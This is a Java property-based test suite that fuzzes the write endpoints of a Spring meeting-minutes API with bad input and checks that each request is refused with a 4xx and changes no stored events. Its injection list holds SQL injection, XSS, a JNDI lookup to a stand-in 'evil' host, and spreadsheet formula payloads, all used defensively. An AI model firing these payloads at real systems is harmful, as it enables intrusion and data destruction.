package dk.protokol.infra.frontdoor;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dk.protokol.infra.support.DemoDataTest;
import dk.protokol.infra.web.Http;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.ShrinkingMode;
import net.jqwik.api.lifecycle.AfterContainer;
import net.jqwik.api.lifecycle.BeforeContainer;
import org.springframework.context.ApplicationContext;
import org.springframework.http.HttpMethod;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.security.crypto.bcrypt.BCryptPasswordEncoder;
import org.springframework.test.context.TestContextManager;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Function;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Issue 11, item 4: a catalogue of bad input as properties (jqwik) over every write endpoint of the API, found in the
 * OpenAPI document the application serves ({@code /v3/api-docs}): wrong types, keys given twice, control characters
 * and NUL, oversize strings and bodies, invalid dates, unknown enum values, malformed, deeply nested and non-object
 * JSON, missing fields with injection strings beside them, injection strings in the path, and bodies of another
 * content type. Every answer must be 4xx problem+json, never a 5xx, and the event store must not grow
 * ({@code SELECT COUNT(*) FROM domain_event_entry} before and after each request).
 * <p>
 * Sent as an administrator (so that the request is read and checked, not refused for its sender), on the demo
 * organisations' application (the same Spring context as every {@code @DemoDataTest}, taken from Spring's test
 * context cache), with real ids of a body, a meeting, an item, a decision, a person, an action and a referral where
 * the defect is refused before anything runs, and unknown ids where it might not be (a body that is merely missing a
 * field). About 300 requests (30 tries a property), some seconds. The figures are printed at the end
 * ("Bad-input catalogue: N endpoints, N requests, N 5xx, N state changes, statuses {...}").
 */
class BadInputCatalogueTest {

    /** The one application of the demo-data tests: the holder of the annotation, so the context comes from the cache. */
    @DemoDataTest
    static class DemoApplication {
    }

    /** An administrator of the catalogue's own, whose password is hashed cheaply: 200 logins should cost no time. */
    static final String USER = "katalog-" + UUID.randomUUID().toString().substring(0, 8);
    static final String PASSWORD = "katalogets-kode";
    static final int TRIES = 30;

    static final List<String> INJECTIONS = List.of("' OR '1'='1", "'; DROP TABLE domain_event_entry; --",
            "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "{{7*7}}", "${jndi:ldap://evil/a}",
            "=HYPERLINK(\"http://evil.example\")", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\u202Egnp.exe",
            "Robert'); DELETE FROM account;--", "%00%27", "\\u0000", "Ærø Å ø 😀");
    static final List<String> CONTROLS = List.of("\u0000", "\u0001", "\u0007", "\u0008", "\u000B", "\u000C",
            "\u001B[31m", "\u007F", "\u0085", "\u009F", "\uD800", "\uDC00");
    static final List<String> BAD_DATES = List.of("2026-13-45", "2026-02-30", "0000-01-01", "0999-12-31",
            "+10000-01-01", "-2026-01-01", "01-02-2026", "2026-1-1", "2026/01/01", "i morgen", "2026-01-01T10:00Z");
    static final List<String> BAD_TIMES = List.of("2026-02-30T10:00", "0000-01-01T10:00", "+10000-01-01T10:00",
            "2026-01-01T25:00", "i morgen kl. 14", "2026-01-01", "10:00", "2026-01-01 10:00");
    static final List<String> CONTENT_TYPES = List.of("text/plain", "application/*", "*/*", "application/xml",
            "text/html", "application/x-www-form-urlencoded", "multipart/form-data", "application/octet-stream",
            "application/json-patch", "application/json; charset=nonsense", "nonsense", "application/*+json",
            "text/json", "image/png");
    static final List<String> MALFORMED = List.of("{", "}", "{\"a\":}", "{'a':1}", "{\"a\":1,}", "{\"a\" 1}",
            "{\"a\":1}}", "{\"a\":1} x", "[1,2", "\"unterminated", "{\"a\":\"\\x\"}", "{\"a\":tru}", "NaN",
            "{\"a\":NaN}", "{\"a\":01}", "/* comment */ {}", "{\"a\":\"b\"\"c\":1}", "\u0000", "{\"a\":1e99999}x",
            "{\"\u0000\":1}x");
    static final List<String> NOT_OBJECTS = List.of("[]", "[{}]", "\"x\"", "1", "-1.5", "true", "null", "\"\"");

    static ApplicationContext application;
    static JdbcTemplate jdbc;
    static Http http;
    static List<Endpoint> endpoints;
    static Map<String, String> realIds;

    static final AtomicInteger requests = new AtomicInteger();
    static final AtomicInteger serverErrors = new AtomicInteger();
    static final AtomicInteger stateChanges = new AtomicInteger();
    static final Map<Integer, AtomicInteger> statuses = new java.util.TreeMap<>();

    // ---- the application, its endpoints and real ids

    @BeforeContainer
    static void application() throws Exception {
        application = new TestContextManager(DemoApplication.class).getTestContext().getApplicationContext();
        int port = application.getEnvironment().getRequiredProperty("local.server.port", Integer.class);
        jdbc = application.getBean(JdbcTemplate.class);
        http = new Http(port);
        administrator();
        JsonNode docs = new ObjectMapper().readTree(http.get(null, null, "/v3/api-docs").body());
        endpoints = Endpoint.allWrites(docs);
        realIds = realIds();
    }

    @AfterContainer
    static void figures() {
        System.out.printf("Bad-input catalogue: %d endpoints, %d requests, %d 5xx, %d state changes, statuses %s%n",
                endpoints == null ? 0 : endpoints.size(), requests.get(), serverErrors.get(), stateChanges.get(),
                statuses);
    }

    /**
     * Every request logs in with HTTP Basic, and the demo users' BCrypt (strength 10) would be most of the run's time;
     * this administrator's hash is BCrypt of strength 4, which the application reads the same way.
     */
    private static void administrator() {
        UUID id = UUID.randomUUID();
        jdbc.update("INSERT INTO account (id, username, password_hash, enabled, created_at, created_by) "
                + "VALUES (?, ?, ?, TRUE, CURRENT_TIMESTAMP, 'BadInputCatalogueTest')", id, USER,
                "{bcrypt}" + new BCryptPasswordEncoder(4).encode(PASSWORD));
        jdbc.update("INSERT INTO account_role (account_id, role_name) VALUES (?, 'ADMIN')", id);
    }

    /** Real ids from the demo: FKU, one of its meetings with an item and a decision, a member, an action, a referral. */
    private static Map<String, String> realIds() {
        Map<String, String> ids = new LinkedHashMap<>();
        String fku = null;
        for (JsonNode organisation : get("/api/org-chart").path("organisations")) {
            for (JsonNode body : all(organisation.path("bodies"))) {
                if (body.path("name").asText().equals("Forum for Koordination og Udvikling")) {
                    fku = body.path("id").asText();
                }
            }
        }
        ids.put("body", fku);
        for (JsonNode member : get("/api/bodies/" + fku).path("members")) {
            ids.putIfAbsent("person", member.path("personId").asText(null));
        }
        for (JsonNode meeting : get("/api/meetings?bodyId=" + fku)) {
            String meetingId = meeting.path("id").asText(meeting.path("meetingId").asText());
            JsonNode minutes = get("/api/meetings/" + meetingId + "/minutes");
            for (JsonNode item : minutes.path("agenda")) {
                ids.putIfAbsent("meeting", meetingId);
                if (meetingId.equals(ids.get("meeting"))) {
                    ids.putIfAbsent("item", item.path("itemId").asText(null));
                }
                for (JsonNode decision : item.path("decisions")) {
                    if (!ids.containsKey("decision")) {
                        ids.put("meeting", meetingId);
                        ids.put("item", item.path("itemId").asText());
                        ids.put("decision", decision.path("decisionId").asText(decision.path("id").asText()));
                    }
                }
            }
        }
        for (JsonNode action : get("/api/actions?bodyId=" + fku)) {
            ids.putIfAbsent("action", action.path("id").asText(null));
        }
        for (JsonNode referral : get("/api/referrals")) {
            ids.putIfAbsent("referral", referral.path("id").asText(referral.path("referralId").asText(null)));
        }
        ids.values().removeIf(value -> value == null || value.isBlank());
        return ids;
    }

    private static JsonNode get(String path) {
        Http.Answer answer = http.get(USER, PASSWORD, path);
        assertThat(answer.status()).as(path + ": " + answer.body()).isEqualTo(200);
        return answer.json();
    }

    private static List<JsonNode> all(JsonNode bodies) {
        List<JsonNode> all = new ArrayList<>();
        for (JsonNode body : bodies) {
            all.add(body);
            all.addAll(all(body.path("children")));
        }
        return all;
    }

    // ---- the properties

    @Property(tries = TRIES, shrinking = ShrinkingMode.OFF)
    void aValueOfTheWrongJsonTypeIsRefused(@ForAll("withFields") Endpoint endpoint, @ForAll("anyField") int pick,
                                           @ForAll("wrongTypes") Function<Field, JsonNode> wrong,
                                           @ForAll boolean realIds) {
        Field field = endpoint.field(pick);
        ObjectNode body = endpoint.plausible(realIds);
        body.set(field.name(), wrong.apply(field));
        check(endpoint, realIds, json(body), "application/json", "wrong type of " + field);
    }

    @Property(tries = TRIES, shrinking = ShrinkingMode.OFF)
    void aKeyGivenTwiceIsRefused(@ForAll("withFields") Endpoint endpoint, @ForAll("anyField") int pick,
                                 @ForAll boolean before, @ForAll boolean realIds) {
        Field field = endpoint.field(pick);
        ObjectNode body = endpoint.plausible(realIds);
        String text = json(body);
        String repeat = "\"" + field.name() + "\":" + json(body.get(field.name()));
        String twice = before ? "{" + repeat + "," + text.substring(1) : text.substring(0, text.length() - 1) + ","
                + repeat + "}";
        check(endpoint, realIds, twice, "application/json", "duplicate " + field.name());
    }

    @Property(tries = TRIES, shrinking = ShrinkingMode.OFF)
    void aControlCharacterInATextIsRefused(@ForAll("withFields") Endpoint endpoint, @ForAll("anyField") int pick,
                                           @ForAll("controls") String control, @ForAll boolean realIds) {
        Field field = endpoint.textField(pick);
        ObjectNode body = endpoint.plausible(realIds);
        body.put(field.name(), "Før" + control + "efter");
        check(endpoint, realIds, json(body), "application/json", "control character in " + field.name());
    }

    @Property(tries = TRIES, shrinking = ShrinkingMode.OFF)
    void anUnknownEnumValueOrAnInvalidDateIsRefused(@ForAll("withTypedFields") Endpoint endpoint,
                                                     @ForAll("anyField") int pick, @ForAll("anyField") int value,
                                                     @ForAll boolean realIds) {
        Field field = endpoint.typedField(pick);
        ObjectNode body = endpoint.plausible(realIds);
        List<String> bad = switch (field.kind()) {
            case ENUM -> List.of("NOT_A_VALUE", field.enumValues().get(0).toLowerCase(), field.enumValues().get(0)
                    + " ", "' OR 1=1 --", "");
            case DATE -> BAD_DATES;
            case DATE_TIME -> BAD_TIMES;
            default -> throw new IllegalStateException(field.toString());
        };
        String chosen = bad.get(Math.floorMod(value, bad.size()));
        if (chosen.isEmpty() && field.kind() == Kind.ENUM) {
            body.put(field.name(), 1);
        } else {
            body.put(field.name(), chosen);
        }
        check(endpoint, realIds, json(body), "application/json", field + " = " + chosen);
    }

    @Property(tries = 10, shrinking = ShrinkingMode.OFF)
    void aBodyBeyondTheLimitIsAnswered413(@ForAll("withFields") Endpoint endpoint, @ForAll boolean realIds) {
        ObjectNode body = endpoint.plausible(realIds);
        body.put("fyld", "x".repeat(1_100_000));
        Answer answer = check(endpoint, realIds, json(body), "application/json", "oversize body");
        assertThat(answer.status()).isEqualTo(413);
    }

    @Property(tries = TRIES, shrinking = ShrinkingMode.OFF)
    void anOversizeTextIsRefused(@ForAll("withPathIds") Endpoint endpoint, @ForAll("anyField") int pick,
                                 @ForAll("oversize") int length) {
        Field field = endpoint.textField(pick);
        ObjectNode body = endpoint.plausible(false);
        body.put(field.name(), "Lang tekst ".repeat(length / 11 + 1));
        check(endpoint, false, json(body), "application/json", "oversize " + field.name() + " " + length);
    }

    @Property(tries = TRIES, shrinking = ShrinkingMode.OFF)
    void malformedOrNonObjectJsonIsRefused(@ForAll("withBodies") Endpoint endpoint, @ForAll("broken") String body,
                                           @ForAll boolean realIds) {
        boolean parseRefuses = MALFORMED.contains(body) && !NOT_OBJECTS.contains(body);
        check(endpoint, realIds && parseRefuses, body, "application/json", "malformed " + body);
    }

    @Property(tries = 15, shrinking = ShrinkingMode.OFF)
    void deeplyNestedJsonIsRefused(@ForAll("withBodies") Endpoint endpoint, @ForAll("depth") int depth,
                                   @ForAll("anyField") int where, @ForAll boolean realIds) {
        String nested = "[".repeat(depth) + "]".repeat(depth);
        ObjectNode body = endpoint.plausible(realIds);
        String text = switch (Math.floorMod(where, 3)) {
            case 0 -> nested;
            case 1 -> json(body).replaceFirst("\\}$", ",\"ukendt\":" + nested + "}");
            default -> endpoint.fields().isEmpty() ? nested
                    : json(body).replaceFirst("\\{", "{\"" + endpoint.field(where).name() + "\":" + nested + ",");
        };
        check(endpoint, realIds, text, "application/json", "nested " + depth);
    }

    @Property(tries = TRIES, shrinking = ShrinkingMode.OFF)
    void aBodyOfAnotherContentTypeIsAnswered415(@ForAll("everyWrite") Endpoint endpoint,
                                                @ForAll("contentTypes") String contentType, @ForAll boolean realIds) {
        Answer answer = check(endpoint, realIds, json(endpoint.plausible(realIds)), contentType,
                "content type " + contentType);
        assertThat(answer.status()).as(contentType).isEqualTo(415);
    }

    @Property(tries = TRIES, shrinking = ShrinkingMode.OFF)
    void missingFieldsWithInjectionStringsBesideThemAreRefused(@ForAll("withBodies") Endpoint endpoint,
                                                                @ForAll("injections") String injection) {
        ObjectNode body = JsonNodeFactory.instance.objectNode();
        body.put("ukendt", injection);
        body.put(injection, injection);
        check(endpoint, false, json(body), "application/json", "missing fields, " + injection);
    }

    @Property(tries = TRIES, shrinking = ShrinkingMode.OFF)
    void anInjectionStringInThePathIsRefused(@ForAll("withPathIds") Endpoint endpoint,
                                             @ForAll("injections") String injection) {
        String path = endpoint.path(false).replaceFirst("[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}",
                java.net.URLEncoder.encode(injection.replace("/", " ").replace("%", " ").replace("\\", " ")
                        .replace("..", " ").replace(";", " "), StandardCharsets.UTF_8).replace("+", "%20"));
        send(endpoint, path, json(endpoint.plausible(false)), "application/json", "path " + injection);
    }

    // ---- what every answer must be

    record Answer(int status, String body) {
    }

    private static Answer check(Endpoint endpoint, boolean realIds, String body, String contentType, String what) {
        return send(endpoint, endpoint.path(realIds), body, contentType, what);
    }

    private static Answer send(Endpoint endpoint, String path, String body, String contentType, String what) {
        long before = events();
        Http.Answer answer = http.raw(HttpMethod.valueOf(endpoint.method()), USER, PASSWORD, path,
                body.getBytes(StandardCharsets.UTF_8), contentType, headers -> { });
        long after = events();
        requests.incrementAndGet();
        synchronized (statuses) {
            statuses.computeIfAbsent(answer.status(), status -> new AtomicInteger()).incrementAndGet();
        }
        if (answer.status() >= 500) {
            serverErrors.incrementAndGet();
        }
        if (after != before) {
            stateChanges.incrementAndGet();
        }
        String context = endpoint.method() + " " + path + " (" + what + "): " + abbreviate(answer.body());
        assertThat(answer.status()).as(context).isBetween(400, 499);
        assertThat(answer.contentType()).as(context).isEqualTo("application/problem+json");
        JsonNode problem = answer.json();
        assertThat(problem.path("status").asInt()).as(context).isEqualTo(answer.status());
        assertThat(problem.path("title").asText()).as(context).isNotBlank();
        assertThat(after).as("events recorded by " + context).isEqualTo(before);
        return new Answer(answer.status(), answer.body());
    }

    private static long events() {
        return jdbc.queryForObject("SELECT COUNT(*) FROM domain_event_entry", Long.class);
    }

    private static String abbreviate(String text) {
        return text.length() > 300 ? text.substring(0, 300) + "…" : text;
    }

    /** JSON text; a surrogate without its pair is written as its escape, so that it reaches the server as sent. */
    private static String json(JsonNode node) {
        String text = node.toString();
        StringBuilder escaped = new StringBuilder(text.length());
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            boolean paired = Character.isHighSurrogate(c) && i + 1 < text.length()
                    && Character.isLowSurrogate(text.charAt(i + 1));
            if (paired) {
                escaped.append(c).append(text.charAt(++i));
            } else if (Character.isSurrogate(c)) {
                escaped.append(String.format("\\u%04X", (int) c));
            } else {
                escaped.append(c);
            }
        }
        return escaped.toString();
    }

    // ---- generators

    @Provide
    Arbitrary<Endpoint> everyWrite() {
        return Arbitraries.of(endpoints);
    }

    @Provide
    Arbitrary<Endpoint> withBodies() {
        return Arbitraries.of(endpoints.stream().filter(Endpoint::hasBody).toList());
    }

    @Provide
    Arbitrary<Endpoint> withFields() {
        return Arbitraries.of(endpoints.stream().filter(endpoint -> !endpoint.fields().isEmpty()).toList());
    }

    @Provide
    Arbitrary<Endpoint> withTypedFields() {
        return Arbitraries.of(endpoints.stream().filter(endpoint -> endpoint.fields().stream()
                .anyMatch(Field::typed)).toList());
    }

    @Provide
    Arbitrary<Endpoint> withPathIds() {
        return Arbitraries.of(endpoints.stream().filter(endpoint -> endpoint.hasBody()
                && endpoint.template().contains("{") && !endpoint.fields().isEmpty()).toList());
    }

    @Provide
    Arbitrary<Integer> anyField() {
        return Arbitraries.integers().between(0, 1000);
    }

    @Provide
    Arbitrary<String> controls() {
        return Arbitraries.of(CONTROLS);
    }

    @Provide
    Arbitrary<String> injections() {
        return Arbitraries.of(INJECTIONS);
    }

    @Provide
    Arbitrary<String> contentTypes() {
        return Arbitraries.of(CONTENT_TYPES);
    }

    @Provide
    Arbitrary<Integer> oversize() {
        return Arbitraries.integers().between(5_000, 300_000);
    }

    @Provide
    Arbitrary<Integer> depth() {
        return Arbitraries.integers().between(1_001, 20_000);
    }

    @Provide
    Arbitrary<String> broken() {
        Arbitrary<String> garbage = Arbitraries.strings().ofMinLength(1).ofMaxLength(40)
                .filter(text -> !text.isBlank()).map(text -> "{" + text);
        return Arbitraries.oneOf(Arbitraries.of(MALFORMED), Arbitraries.of(NOT_OBJECTS), garbage);
    }

    @Provide
    Arbitrary<Function<Field, JsonNode>> wrongTypes() {
        JsonNodeFactory nodes = JsonNodeFactory.instance;
        return Arbitraries.integers().between(0, 1000).map(choice -> field -> {
            List<JsonNode> wrong = switch (field.kind()) {
                case TEXT -> List.of(nodes.numberNode(12), nodes.numberNode(-1.5), nodes.booleanNode(true),
                        nodes.booleanNode(false), nodes.objectNode(), nodes.arrayNode(),
                        nodes.arrayNode().add("x"), nodes.objectNode().put("a", "b"));
                case ID -> List.of(nodes.textNode("ikke-et-id"), nodes.numberNode(123),
                        nodes.textNode("' OR 1=1 --"), nodes.textNode("00000000-0000-0000-0000-00000000000G"),
                        nodes.booleanNode(true), nodes.arrayNode().add(UUID.randomUUID().toString()));
                case DATE -> List.of(nodes.numberNode(20260101), nodes.numberNode(1.5), nodes.booleanNode(true),
                        nodes.arrayNode().add(2026).add(1).add(1), nodes.objectNode());
                case DATE_TIME -> List.of(nodes.numberNode(20260101), nodes.numberNode(1767261600L),
                        nodes.booleanNode(false), nodes.arrayNode().add(2026).add(1).add(1).add(10).add(0));
                case INTEGER -> List.of(nodes.numberNode(1.5), nodes.textNode("7"), nodes.booleanNode(true),
                        nodes.textNode("x"), nodes.objectNode(), nodes.numberNode(new java.math.BigInteger(
                                "99999999999999999999")), nodes.numberNode(-0.5), nodes.numberNode(1e300));
                case BOOLEAN -> List.of(nodes.numberNode(1), nodes.numberNode(0), nodes.textNode("true"),
                        nodes.textNode("ja"), nodes.arrayNode());
                case ENUM -> List.of(nodes.numberNode(1), nodes.numberNode(0), nodes.numberNode(-1),
                        nodes.booleanNode(true), nodes.arrayNode(), nodes.objectNode());
                case LIST -> List.of(nodes.textNode("x"), nodes.numberNode(5), nodes.objectNode(),
                        nodes.arrayNode().add(nodes.arrayNode()).add(true));
                case OBJECT -> List.of(nodes.textNode("x"), nodes.numberNode(5), nodes.arrayNode(),
                        nodes.booleanNode(true));
            };
            return wrong.get(Math.floorMod(choice, wrong.size()));
        });
    }

    // ---- the endpoints, from the OpenAPI document

    enum Kind { TEXT, ID, DATE, DATE_TIME, INTEGER, BOOLEAN, ENUM, LIST, OBJECT }

    record Field(String name, Kind kind, List<String> enumValues, JsonNode schema) {

        boolean typed() {
            return kind == Kind.ENUM || kind == Kind.DATE || kind == Kind.DATE_TIME;
        }

        @Override
        public String toString() {
            return name + ":" + kind;
        }
    }

    record Endpoint(String method, String template, boolean hasBody, List<Field> fields, JsonNode components) {

        private static final Pattern PARAMETER = Pattern.compile("\\{([^}]+)}");

        static List<Endpoint> allWrites(JsonNode docs) {
            List<Endpoint> all = new ArrayList<>();
            JsonNode components = docs.path("components").path("schemas");
            Iterator<Map.Entry<String, JsonNode>> paths = docs.path("paths").fields();
            while (paths.hasNext()) {
                Map.Entry<String, JsonNode> path = paths.next();
                for (String method : List.of("post", "put", "patch", "delete")) {
                    JsonNode operation = path.getValue().path(method);
                    if (operation.isMissingNode() || !path.getKey().startsWith("/api/")
                            || path.getKey().startsWith("/api/test-only")) {
                        continue;
                    }
                    JsonNode content = operation.path("requestBody").path("content");
                    if (content.has("multipart/form-data")) {
                        // a file upload (a bilag), not JSON: its bad input (a file of another type, none, too large,
                        // broken multipart) is tested in attachments.AttachmentApiOnPostgresTest
                        continue;
                    }
                    JsonNode schema = resolve(content.path("application/json").path("schema"), components);
                    boolean hasBody = !content.path("application/json").isMissingNode();
                    all.add(new Endpoint(method.toUpperCase(), path.getKey(), hasBody,
                            fields(schema, components), components));
                }
            }
            assertThat(all).as("write endpoints in /v3/api-docs").hasSizeGreaterThan(30);
            return all;
        }

        static JsonNode resolve(JsonNode schema, JsonNode components) {
            String ref = schema.path("$ref").asText("");
            return ref.isEmpty() ? schema : components.path(ref.substring(ref.lastIndexOf('/') + 1));
        }

        static List<Field> fields(JsonNode schema, JsonNode components) {
            List<Field> fields = new ArrayList<>();
            Iterator<Map.Entry<String, JsonNode>> properties = schema.path("properties").fields();
            while (properties.hasNext()) {
                Map.Entry<String, JsonNode> property = properties.next();
                JsonNode type = resolve(property.getValue(), components);
                List<String> values = new ArrayList<>();
                type.path("enum").forEach(value -> values.add(value.asText()));
                Kind kind = !values.isEmpty() ? Kind.ENUM : switch (type.path("type").asText("object")) {
                    case "string" -> switch (type.path("format").asText("")) {
                        case "uuid" -> Kind.ID;
                        case "date" -> Kind.DATE;
                        case "date-time" -> Kind.DATE_TIME;
                        default -> Kind.TEXT;
                    };
                    case "integer", "number" -> Kind.INTEGER;
                    case "boolean" -> Kind.BOOLEAN;
                    case "array" -> Kind.LIST;
                    default -> Kind.OBJECT;
                };
                fields.add(new Field(property.getKey(), kind, values, type));
            }
            return fields;
        }

        Field field(int pick) {
            return fields.get(Math.floorMod(pick, fields.size()));
        }

        /** A text field if there is one, else any: a text where another type is wanted is refused as well. */
        Field textField(int pick) {
            List<Field> texts = fields.stream().filter(field -> field.kind() == Kind.TEXT).toList();
            return texts.isEmpty() ? field(pick) : texts.get(Math.floorMod(pick, texts.size()));
        }

        Field typedField(int pick) {
            List<Field> typed = fields.stream().filter(Field::typed).toList();
            return typed.get(Math.floorMod(pick, typed.size()));
        }

        /** The path with real ids of the demo (or unknown ones). */
        String path(boolean real) {
            Matcher parameters = PARAMETER.matcher(template);
            StringBuilder path = new StringBuilder();
            while (parameters.find()) {
                parameters.appendReplacement(path, real ? realId(parameters.start()) : UUID.randomUUID().toString());
            }
            parameters.appendTail(path);
            return path.toString();
        }

        private String realId(int at) {
            String before = template.substring(0, at);
            String parameter = template.substring(at + 1, template.indexOf('}', at));
            String kind = switch (parameter) {
                case "itemId" -> "item";
                case "decisionId" -> "decision";
                case "commentId" -> "none";
                case "personId" -> "person";
                // no bilag in the demo: an unknown one, refused once the input is read (404)
                case "attachmentId" -> "attachment";
                default -> before.startsWith("/api/meetings") ? "meeting" : before.startsWith("/api/bodies") ? "body"
                        : before.startsWith("/api/actions") ? "action" : before.startsWith("/api/people") ? "person"
                        : before.startsWith("/api/referrals") ? "referral" : "none";
            };
            return realIds.getOrDefault(kind, UUID.randomUUID().toString());
        }

        /** A body whose every field has a value of its type (texts from the injection strings). */
        ObjectNode plausible(boolean real) {
            ObjectNode body = JsonNodeFactory.instance.objectNode();
            int i = 0;
            for (Field field : fields) {
                body.set(field.name(), value(field.kind(), field.enumValues(), field.schema(), real, i++));
            }
            return body;
        }

        private JsonNode value(Kind kind, List<String> enumValues, JsonNode schema, boolean real, int i) {
            JsonNodeFactory nodes = JsonNodeFactory.instance;
            return switch (kind) {
                case TEXT -> nodes.textNode(INJECTIONS.get(i % INJECTIONS.size()));
                case ID -> nodes.textNode(real ? realIds.getOrDefault("person", UUID.randomUUID().toString())
                        : UUID.randomUUID().toString());
                case DATE -> nodes.textNode("2031-05-01");
                case DATE_TIME -> nodes.textNode("2031-05-01T10:00");
                case INTEGER -> nodes.numberNode(3);
                case BOOLEAN -> nodes.booleanNode(true);
                case ENUM -> nodes.textNode(enumValues.get(0));
                case LIST -> {
                    ArrayNode list = nodes.arrayNode();
                    JsonNode items = resolve(schema.path("items"), components);
                    List<Field> inner = fields(items, components);
                    if (!inner.isEmpty()) {
                        ObjectNode element = nodes.objectNode();
                        inner.forEach(field -> element.set(field.name(),
                                value(field.kind(), field.enumValues(), field.schema(), real, 0)));
                        list.add(element);
                    } else if ("uuid".equals(items.path("format").asText())) {
                        list.add(UUID.randomUUID().toString());
                    } else {
                        list.add("x");
                    }
                    yield list;
                }
                case OBJECT -> nodes.objectNode();
            };
        }

        @Override
        public String toString() {
            return method + " " + template;
        }
    }
}
